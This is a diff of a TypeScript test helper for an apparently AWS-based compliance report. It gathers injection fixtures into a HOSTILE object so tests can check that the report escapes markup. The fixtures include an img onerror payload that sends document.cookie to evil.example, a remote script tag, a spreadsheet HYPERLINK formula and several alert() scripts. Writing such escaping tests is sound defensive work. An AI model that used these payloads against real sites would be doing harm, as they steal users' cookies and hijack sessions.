@@ -118,18 +118,20 @@ export const reportSampleOrg = (outDir: string, ...extra: string[]) =>
   reportSampleFacts(['--ledger', relative(process.cwd(), SAMPLE_LEDGER), '--out', outDir, ...extra]);
 
 /** What a member account's administrator controls: his account's name, its OU's name, annotations, user agents. */
-export const HOSTILE_NAME = '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">';
-export const HOSTILE_OU = "Root/<svg onload=alert('ou')>";
-export const HOSTILE_ANNOTATION = `</td><script src="https://evil.example/x.js"></script><td>=HYPERLINK("https://evil.example")`;
+export const HOSTILE = {
+  name: '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">',
+  ou: "Root/<svg onload=alert('ou')>",
+  annotation: `</td><script src="https://evil.example/x.js"></script><td>=HYPERLINK("https://evil.example")`,
+} as const;
 
 /** A report whose organization, account, OU, annotation and user agent all try to inject markup. */
 export function hostileReport(): ReportData {
   return computeReport(
     reportInput({
       organization: { id: 'o-a1b2c3d4e5', name: '<b>Org</b>' },
-      accounts: [...ACCOUNTS, { accountId: '444444444444', name: HOSTILE_NAME, ouPath: HOSTILE_OU }],
+      accounts: [...ACCOUNTS, { accountId: '444444444444', name: HOSTILE.name, ouPath: HOSTILE.ou }],
       evaluations: [
-        evaluation('444444444444', 'root-hardware-mfa', 'NON_COMPLIANT', undefined, HOSTILE_ANNOTATION),
+        evaluation('444444444444', 'root-hardware-mfa', 'NON_COMPLIANT', undefined, HOSTILE.annotation),
       ],
       ledger: [ledgerRecord({ accountId: '444444444444', userAgent: '<script>alert(1)</script>' })],
     }),
